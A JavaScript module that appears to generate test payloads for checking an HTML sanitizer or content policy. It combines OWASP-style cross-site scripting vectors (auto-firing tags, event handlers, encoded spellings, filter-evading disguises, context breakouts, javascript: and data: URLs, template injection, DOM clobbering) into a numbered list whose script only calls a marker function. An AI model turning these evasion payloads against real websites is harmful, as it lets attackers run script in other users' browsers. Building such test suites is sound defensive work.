// Payloads that would run a script if a page let them: our own combinations of what OWASP's cheat
// sheets on cross-site scripting and its evasion list by category (tags, events, encodings, URL
// schemes, ways out of a context, broken markup, clobbering). Deterministic.
//
// Each is { id, category, text }. What runs calls xss(id); elements that get into a page carry the
// attribute `xss`, and so are found even where the policy keeps them from running.

const call = (id) => `xss(${id})`;

// Ways to make an element run something as it loads, without a person's help.
const loading = [
  ['script', (run) => `<script xss>${run}</script>`],
  ['script', (run) => `<script xss src="data:text/javascript,${run}"></script>`],
  ['script', (run) => `<script xss type=module>${run}</script>`],
  ['img', (run) => `<img xss src=x onerror=${run}>`],
  ['img', (run) => `<img xss src="x" onerror="${run}">`],
  ['img', (run) => `<img xss src='x' onerror='${run}'/>`],
  ['image', (run) => `<image xss src=x onerror=${run}>`],
  ['svg', (run) => `<svg xss onload=${run}>`],
  ['svg', (run) => `<svg xss><script>${run}</script></svg>`],
  ['svg', (run) => `<svg xss><animate onbegin=${run} attributeName=x dur=1s>`],
  ['svg', (run) => `<svg xss><set onbegin=${run} attributeName=x>`],
  ['svg', (run) => `<svg xss><foreignObject><img src=x onerror=${run}></foreignObject></svg>`],
  ['svg', (run) => `<svg xss><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`],
  ['math', (run) => `<math xss><mtext><img src=x onerror=${run}></mtext></math>`],
  ['body', (run) => `<body xss onload=${run}>`],
  ['body', (run) => `<body xss onpageshow=${run}>`],
  ['iframe', (run) => `<iframe xss src="javascript:parent.${run}"></iframe>`],
  ['iframe', (run) => `<iframe xss srcdoc="<script>parent.${run}</script>"></iframe>`],
  ['iframe', (run) => `<iframe xss onload=${run}></iframe>`],
  ['object', (run) => `<object xss data="javascript:${run}"></object>`],
  ['object', (run) => `<object xss data=x onerror=${run}></object>`],
  ['embed', (run) => `<embed xss src="javascript:${run}">`],
  ['video', (run) => `<video xss src=x onerror=${run}></video>`],
  ['video', (run) => `<video xss><source src=x onerror=${run}></video>`],
  ['audio', (run) => `<audio xss src=x onerror=${run}></audio>`],
  ['details', (run) => `<details xss open ontoggle=${run}>x</details>`],
  ['input', (run) => `<input xss autofocus onfocus=${run}>`],
  ['input', (run) => `<input xss type=image src=x onerror=${run}>`],
  ['textarea', (run) => `<textarea xss autofocus onfocus=${run}>x</textarea>`],
  ['select', (run) => `<select xss autofocus onfocus=${run}></select>`],
  ['button', (run) => `<button xss autofocus onfocus=${run}>x</button>`],
  ['marquee', (run) => `<marquee xss onstart=${run}>x</marquee>`],
  ['style', (run) => `<style xss>@keyframes k{}</style><p style="animation-name:k" onanimationstart=${run}>x</p>`],
  ['style', (run) => `<style xss onload=${run}></style>`],
  ['link', (run) => `<link xss rel=stylesheet href="data:text/css,a" onload=${run}>`],
  ['meta', (run) => `<meta xss http-equiv=refresh content="0;url=javascript:${run}">`],
  ['base', (run) => `<base xss href="javascript:/a/-${run}///"><script src=x></script>`],
  ['template', (run) => `<div xss><template shadowrootmode=open><img src=x onerror=${run}></template></div>`],
  ['xss', (run) => `<xss xss tabindex=1 autofocus onfocus=${run}>x</xss>`],
  ['noscript', (run) => `<noscript><p title="</noscript><img xss src=x onerror=${run}>"></noscript>`],
];

// Elements that wait for a person, with what the person may do.
const waitingTags = ['a', 'b', 'p', 'div', 'table', 'kbd', 'summary', 'details', 'sub', 'img'];
const waitingEvents = ['onclick', 'onmouseover', 'onpointerenter', 'onauxclick', 'oncopy', 'onwheel', 'onkeydown',
  'onfocusin', 'ondragstart', 'oncontextmenu', 'onbeforetoggle', 'onscrollend'];

const entities = (text, write) => [...text].map((c) => write(c.codePointAt(0))).join('');

// How the call may be spelled so that a filter does not see it, in an attribute.
const spellings = [
  ['plain', (run) => run],
  ['alert', (run, id) => `alert(${id})`],
  ['decimal', (run) => entities(run, (n) => `&#${n};`)],
  ['decimal without end', (run) => entities(run, (n) => `&#${String(n).padStart(7, '0')}`)],
  ['hexadecimal', (run) => entities(run, (n) => `&#x${n.toString(16)};`)],
  ['unicode escape', (run) => run.replace('x', '\\u0078')],
  ['computed', (run, id) => `self['x'+'ss'](${id})`],
  ['backquotes', (run, id) => `top[/xs/.source+/s/.source](${id})`],
  ['named reference', (run) => run.replace('(', '&lpar;').replace(')', '&rpar;')],
];

// How a tag may be misspelled so that a filter does not see it and a browser does.
const disguises = [
  ['mixed case', (tag) => tag.replace(/<(\w+)/g, (all, name) =>
    '<' + [...name].map((c, i) => i % 2 ? c.toUpperCase() : c).join(''))],
  ['slash for space', (tag) => tag.replaceAll(' ', '/')],
  ['tab', (tag) => tag.replaceAll(' ', '\t')],
  ['form feed', (tag) => tag.replaceAll(' ', '\f')],
  ['unclosed', (tag) => tag.replace(/>[^>]*$/, ' ')],
  ['after a comment', (tag) => `<!-->${tag}-->`],
  ['in a comment', (tag) => `<!-- --!>${tag}`],
  ['in a declaration', (tag) => `<!x>${tag}<?x ?>`],
  ['in character data', (tag) => `<![CDATA[${tag}]]>`],
  ['doubled', (tag) => `<${tag}>`],
  ['nested', (tag) => tag.replace(/<(\w)/, '<<$1$1').replace(/^<<(\w)\1/, '<scr<script>ipt>;<$1')],
  ['entity brackets', (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ['doubly escaped brackets', (tag) => tag.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;')],
  ['percent brackets', (tag) => tag.replaceAll('<', '%3C').replaceAll('>', '%3E')],
  ['escaped brackets', (tag) => tag.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e')],
  ['full-width brackets', (tag) => tag.replaceAll('<', '＜').replaceAll('>', '＞')],
  ['another encoding', (tag) => tag.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')],
  ['backslashed', (tag) => tag.replaceAll('<', '\\<').replaceAll('"', '\\"')],
  ['zero width', (tag) => tag.replace('<', '<\u200b').replace('=', '\u2060=')],
];

// What closes whatever the text may stand in.
const exits = ['"', "'", '`', '">', "'>", '" ', "' ", '</title>', '</textarea>', '</style>', '</script>',
  '</noscript>', '</template>', '</svg>', '</pre></code>', '</td></tr></table>', '</a>', '-->', '--!>', ']]>', '?>',
  '`)', '](', '\\">', '&quot;>', '%22%3E', '\u2028">', '\n\n', '}}', '{{/title}}', '```\n\n', '</details>', '</h1>'];

const schemes = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript://example.com/%0d%0a${run}`,
  (run) => `//javascript:${run}`,
  (run) => `./javascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `livescript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `data:,${run}`,
  (run) => `blob:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `filesystem:javascript:${run}`,
  (run) => `file:///etc/passwd#${run}`,
  (run) => `about:blank#${run}`,
  (run) => `https://x.example/"onmouseover="${run}`,
  (run) => `https://x.example/'onmouseover='${run}`,
  (run) => `https://x.example/<img xss src=x onerror=${run}>`,
  (run) => `mailto:a@x.example"onclick=${run}`,
  (run) => `#"onclick="${run}`,
];
const carriers = [
  (url) => url,
  (url) => `<a xss href="${url}">x</a>`,
  (url) => `<a href='${url}'>x</a>`,
  (url) => `<img xss src="${url}">`,
  (url) => `<form xss action="${url}"><button>x</button></form>`,
  (url) => `<button xss formaction="${url}">x</button>`,
  (url) => `<iframe xss src="${url}"></iframe>`,
  (url) => `<svg xss><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
];

// Text that is a script in a string of a script, in JSON, in a template, in a style.
const inside = [
  (run) => `'-${run}-'`, (run) => `"-${run}-"`, (run) => `\\'-${run}//`, (run) => `\${${run}}`,
  (run) => `";${run};//`, (run) => `\u2028${run}\u2029`, (run) => `</script><script xss>${run}</script>`,
  (run) => `"}]};${run};[{"a":"`, (run) => `"],"x":"<script xss>${run}</script>`, (run) => `*/${run}/*`,
  (run) => `{{{body}}}${run}`, (run) => `{{constructor.constructor('${run}')()}}`, (run) => `{{> head}}${run}`,
  (run) => `\${{${run}}}`, (run) => `<%= ${run} %>`, (run) => `#{${run}}`, (run) => `[[${run}]]`,
  (run) => `x:expression(${run})`, (run) => `background:url("javascript:${run}")`,
  (run) => `}*{-moz-binding:url(data:text/xml,${run})}`, (run) => `</style><img xss src=x onerror=${run}>`,
  (run) => `&{${run}};`, (run) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
];

// Names that, as an id or a name, would hide what scripts rely on.
const clobbered = ['words', 'document', 'body', 'head', 'title', 'location', 'cookie', 'forms', 'children',
  'getElementById', 'querySelector', 'createElement', 'attributes', 'defaultView', 'navigator', 'sessionStorage',
  'page.main', 'page.nav', 'code.1', 'step.1', 'cmd.1', '__proto__', 'constructor', 'hasOwnProperty'];
const clobbers = [
  (name) => `<a xss id="${name}" name="${name}">x</a>`,
  (name) => `<img name="${name}" src="x" alt="x">`,
  (name) => `<form xss id="${name}"><input name="${name}"></form>`,
  (name) => `x {#${name}}`,
];

function* texts() {
  for (const [tag, make] of loading) {
    for (const [name, spell] of spellings) yield [`tag ${tag}, ${name}`, (id) => make(spell(call(id), id))];
  }
  for (const tag of waitingTags) {
    for (const event of waitingEvents) yield [`event ${event}`, (id) => `<${tag} xss ${event}="${call(id)}">x</${tag}>`];
  }
  const disguised = loading.filter(([tag], i) => i === loading.findIndex(([other]) => other === tag)).slice(0, 8);
  for (const [name, disguise] of disguises) {
    for (const [, make] of disguised) yield [`disguise ${name}`, (id) => disguise(make(call(id)))];
  }
  for (const exit of exits) {
    for (const make of [loading[0][1], loading[4][1], loading[7][1],
      (run) => `onmouseover=${run} x=`, (run) => `autofocus tabindex=1 onfocus=${run} `]) {
      yield ['way out', (id) => exit + make(call(id))];
    }
  }
  for (const scheme of schemes) {
    for (const carry of carriers) yield ['scheme', (id) => carry(scheme(call(id)))];
  }
  for (const make of inside) yield ['inside a language', (id) => make(call(id))];
  for (const name of clobbered) {
    for (const make of clobbers) yield ['clobbering', () => make(name)];
  }
}

export const payloads = [...texts()].map(([category, make], id) => ({ id, category, text: make(id) }));
